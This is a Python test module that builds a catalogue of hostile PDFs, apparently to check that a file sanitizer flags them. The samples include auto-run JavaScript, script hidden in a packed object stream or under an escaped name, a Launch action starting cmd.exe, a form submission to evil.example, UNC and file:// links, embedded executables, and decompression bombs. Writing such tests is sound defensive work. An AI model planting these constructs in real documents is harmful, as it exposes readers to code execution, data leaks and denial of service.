"""PDFs that mean harm."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter

from tests.common.hostile import HARMLESS, MEGABYTE, Hostile, bad
from tests.common.samples import assembled, flate, pdf, streamed

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def locked() -> bytes:
    made = PdfWriter(PdfReader(io.BytesIO(pdf())))
    made.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            *[leaf] * count,
        ]
    )


def bites_its_tail() -> bytes:
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


def hidden_in_a_stream() -> bytes:
    """The script lies in a packed object stream, so its name stands nowhere in the file's bytes."""
    inner = b"6 0 " + JS
    packed = flate(inner, b"/Type /ObjStm /N 1 /First 4 ")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        packed,
    ]
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, io.SEEK_END)
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (1, start, 0), (2, 4, 0)]
    table = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([last])
        for kind, place, last in rows
    )
    about = b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R "
    out.write(b"5 0 obj\n" + flate(table, about) + b"\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def own_ancestor() -> bytes:
    """The table of contents names itself as the one before."""
    made = pdf()
    start = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def boasting() -> bytes:
    return (
        pdf()
        .replace(b"xref\n0 6\n", b"xref\n0 999999999\n")
        .replace(b"/Size 6", b"/Size 999999999")
    )


def many_bombs() -> bytes:
    one = flate(bytes(120 * MEGABYTE))
    return pdf(*[one] * 12)


def branching() -> bytes:
    """Thirty forms, each of which draws the next one ten times."""
    forms = []
    for number in range(6, 36):
        about = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
            % min(number + 1, 35)
        )
        forms.append(streamed(b"/X Do " * 10, about))
    return pdf(
        *forms, content=b"/X Do", page=b"/Resources << /XObject << /X 6 0 R >> >>"
    )


def twice_packed() -> bytes:
    held = zlib.compress(zlib.compress(bytes(100 * MEGABYTE), 9), 9)
    return pdf(streamed(held, b"/Filter [/FlateDecode /FlateDecode]"))


def swollen_object_stream() -> bytes:
    return pdf(flate(bytes(400 * MEGABYTE), b"/Type /ObjStm /N 100000 /First 0"))


def picture_of(width: int, height: int) -> bytes:
    about = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
    return streamed(b"\x00" * 64, about % (width, height) + b" /Filter /JBIG2Decode")


FILES: list[Hostile] = [
    bad("PDF: script when opened", "a.pdf", pdf(root=b"/OpenAction " + JS), "active"),
    bad(
        "PDF: script when a page is shown",
        "a.pdf",
        pdf(page=b"/AA << /O " + JS + b" >>"),
        "active",
    ),
    bad(
        "PDF: script in the list of names",
        "a.pdf",
        pdf(root=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
        "active",
    ),
    bad(
        "PDF: script under an escaped name",
        "a.pdf",
        pdf(b"<< /S /J#61vaScript /J#53 (x) >>", root=b"/OpenAction 6 0 R"),
        "active",
    ),
    bad("PDF: script in an object nobody names", "a.pdf", pdf(JS), "active"),
    bad("PDF: script in a packed object stream", "a.pdf", hidden_in_a_stream, "active"),
    bad(
        "PDF: starts a program",
        "a.pdf",
        pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active",
    ),
    bad(
        "PDF: sends its form",
        "a.pdf",
        pdf(root=b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
        "active",
    ),
    bad(
        "PDF: opens another file by the network",
        "a.pdf",
        pdf(root=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>"),
        "active",
    ),
    bad(
        "PDF: opens a file that it carries",
        "a.pdf",
        pdf(root=b"/OpenAction << /S /GoToE /D [0] >>"),
        "active",
    ),
    bad(
        "PDF: carries a file",
        "a.pdf",
        pdf(
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            streamed(b"MZ", b"/Type /EmbeddedFile"),
        ),
        "embedded",
    ),
    bad(
        "PDF: a collection of files",
        "a.pdf",
        pdf(root=b"/Collection << /View /T >>"),
        "embedded",
    ),
    bad(
        "PDF: carries a film",
        "a.pdf",
        pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "active",
    ),
    bad(
        "PDF: a file pinned to the page",
        "a.pdf",
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"
        ),
        "active",
    ),
    bad(
        "PDF: XFA form",
        "a.pdf",
        pdf(root=b"/AcroForm << /XFA [(a) 6 0 R] /Fields [] >>"),
        "active",
    ),
    bad(
        "PDF: link to a local file",
        "a.pdf",
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (file:///c:/a.exe) >> >>]"
        ),
        "active",
    ),
    bad(
        "PDF: link that is script",
        "a.pdf",
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> >>]"
        ),
        "active",
    ),
    bad("PDF: locked", "a.pdf", locked, "encrypted"),
    bad("PDF: 2,001 pages", "a.pdf", lambda: pages(2_001), "pages"),
    bad("PDF: 60,000 pages", "a.pdf", lambda: pages(60_000), "pages", "heavy"),
    bad("PDF: page tree that bites its tail", "a.pdf", bites_its_tail, "broken"),
    bad("PDF: no pages", "a.pdf", lambda: pages(0), "broken"),
    bad("PDF: table that names itself", "a.pdf", own_ancestor, "broken", HARMLESS),
    bad(
        "PDF: table of a thousand million objects",
        "a.pdf",
        boasting,
        "broken",
        "heavy",
        HARMLESS,
    ),
    bad(
        "PDF: content of 200 MB",
        "a.pdf",
        lambda: pdf(flate(bytes(200 * MEGABYTE))),
        "heavy",
    ),
    bad("PDF: twelve streams of 120 MB", "a.pdf", many_bombs, "heavy"),
    bad("PDF: packed twice", "a.pdf", twice_packed, "heavy"),
    bad(
        "PDF: object stream of 400 MB",
        "a.pdf",
        swollen_object_stream,
        "heavy",
        "broken",
    ),
    bad(
        "PDF: picture of 10,000 million pixels",
        "a.pdf",
        pdf(picture_of(100_000, 100_000)),
        "heavy",
    ),
    bad(
        "PDF: arrays in arrays, 100,000 deep",
        "a.pdf",
        lambda: pdf(b"[" * 100_000 + b"]" * 100_000),
        "heavy",
        "broken",
        HARMLESS,
    ),
    bad("PDF: forms that draw forms", "a.pdf", branching, HARMLESS, "broken"),
    bad(
        "PDF: nothing but head and end",
        "a.pdf",
        b"%PDF-1.7\n" + b"x" * 5000 + b"\nstartxref\n0\n%%EOF\n",
        "broken",
    ),
]
